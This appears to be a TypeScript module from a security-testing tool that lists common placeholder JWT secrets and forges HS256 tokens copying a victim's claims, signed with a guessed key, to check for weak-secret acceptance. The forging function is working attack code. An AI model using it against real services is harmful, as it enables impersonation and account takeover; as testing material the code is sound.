import { createHmac } from 'node:crypto'
import { base64url, decodeJwt } from 'jose'

/**
 * Secrets copied from tutorials, `.env.example` files and library docs (jwt.io's
 * `your-256-bit-secret`, Better Auth's `BETTER_AUTH_SECRET` placeholders). A backend that verifies
 * HS256 with one of them accepts tokens anyone can sign.
 */
export const PLACEHOLDER_SECRETS: readonly string[] = [
  'your-secret-key',
  'your_secret_key',
  'secret',
  'secret-key',
  'change-me',
  'changeme',
  'your-256-bit-secret',
  'supersecret',
  'mysecret',
  'jwt-secret',
  'your-jwt-secret',
  'BETTER_AUTH_SECRET',
  'better-auth-secret',
  'your-better-auth-secret',
]

/** Whether `secret` is one of {@link PLACEHOLDER_SECRETS} (case and surrounding spaces ignored). */
export function isPlaceholderSecret(secret: string): boolean {
  const wanted = secret.trim().toLowerCase()
  return PLACEHOLDER_SECRETS.some((s) => s.toLowerCase() === wanted)
}

/**
 * An HS256 token with the claims of `validToken` (sub, iss, aud, exp, …: the victim's), signed
 * with `secret`. Signed by hand: the point is the key, so nothing may refuse a short one.
 */
export function hs256WithClaimsOf(validToken: string, secret: string): string {
  const header = base64url.encode(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))
  const payload = base64url.encode(JSON.stringify(decodeJwt(validToken)))
  const signature = createHmac('sha256', secret).update(`${header}.${payload}`).digest('base64url')
  return `${header}.${payload}.${signature}`
}
